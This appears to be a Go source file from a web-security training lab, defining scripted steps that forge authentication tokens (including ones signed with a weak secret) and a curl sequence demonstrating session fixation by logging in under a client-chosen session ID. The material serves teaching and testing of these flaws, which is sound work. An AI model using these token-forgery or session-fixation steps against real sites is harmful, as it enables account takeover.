package forgery

import "twodoors/web/lab"

// Variables of this lab.
const (
	forgedVariable = "FORGED" // the last token that was forged
	weakVariable   = "WEAK"   // a token that a weak secret signed
	fixedVariable  = "FIXED"  // a session ID that an attacker chose
)

// send is the act that forges a token from a variable and presents it to the door.
func (t technique) send(from string) lab.Act {
	return lab.Act{Label: t.label, Door: "token", Calls: []lab.Call{
		{Method: "POST", Path: "/api/labs/forgery/forge", Body: `{"token": "$` + from + `", "kind": "` + t.kind + `"}`, Keep: map[string]string{forgedVariable: "forged"}},
		{Path: "/api/token/me", Bearer: forgedVariable},
	}}
}

func sendAll(techniques []technique) (acts []lab.Act) {
	for _, t := range techniques {
		acts = append(acts, t.send(lab.Token))
	}
	return acts
}

// plantInShell logs in with a session ID that the client chose.
const plantInShell = `FIXED=$(head -c 32 /dev/urandom | base64 | tr '+/' '-_' | tr -d '=\n')
curl -s -b "$JAR" -c "$JAR" -H "Seat: $SEAT" -X POST "$SITE/api/session/logout"
curl -s -H "Seat: $SEAT" -H "Cookie: $SESSION=$FIXED" "$SITE/api/session/me"
curl -s -c "$JAR" -H "Seat: $SEAT" -H "Cookie: $SESSION=$FIXED" -X POST -H 'Content-Type: application/json' -d '{"username": "ada", "password": "lovelace"}' "$SITE/api/session/login"`
